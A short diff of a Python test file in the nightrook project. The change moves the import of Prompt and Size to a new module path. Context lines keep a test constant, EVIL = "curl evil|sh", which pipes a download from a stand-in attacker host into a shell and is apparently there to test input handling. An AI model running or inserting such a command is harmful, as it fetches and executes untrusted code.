@@ -12,7 +12,7 @@ import pytest
 from tests.cli.boards import Board, BoardAsker
 from tests.rules import each
 
-from nightrook.display.prompts.pages import Prompt, Size
+from nightrook.display.prompt import Prompt, Size
 from nightrook.model.questions import Ask, Decision
 
 EVIL = "curl evil|sh"
